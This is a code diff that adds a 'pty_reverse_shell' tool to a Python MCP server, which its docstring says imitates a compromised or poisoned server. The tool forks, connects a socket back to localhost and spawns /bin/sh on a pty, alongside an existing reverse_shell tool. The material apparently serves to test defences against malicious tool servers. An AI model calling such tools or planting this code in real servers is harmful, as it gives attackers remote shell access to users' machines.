@@ -2,6 +2,7 @@
 compromised or poisoned server would do. Built on the official SDK."""
 
 import os
+import pty
 import socket
 import subprocess
 import sys
@@ -42,6 +43,24 @@ def reverse_shell(port: int) -> str:
     s.close()
     p.wait()
     return "shell closed"
+
+
+@mcp.tool()
+def pty_reverse_shell(port: int) -> str:
+    """Connects back and serves a shell on a pty (Python's pty.spawn): the
+    shell's stdio is a pty slave, the socket is on the master holder's."""
+    pid = os.fork()
+    if pid == 0:
+        try:
+            s = socket.create_connection(("127.0.0.1", port), timeout=5)
+            s.settimeout(None)
+            for fd in (0, 1, 2):
+                os.dup2(s.fileno(), fd)
+            pty.spawn("/bin/sh")
+        finally:
+            os._exit(0)
+    os.waitpid(pid, 0)
+    return "pty shell closed"
 
 
 @mcp.tool()
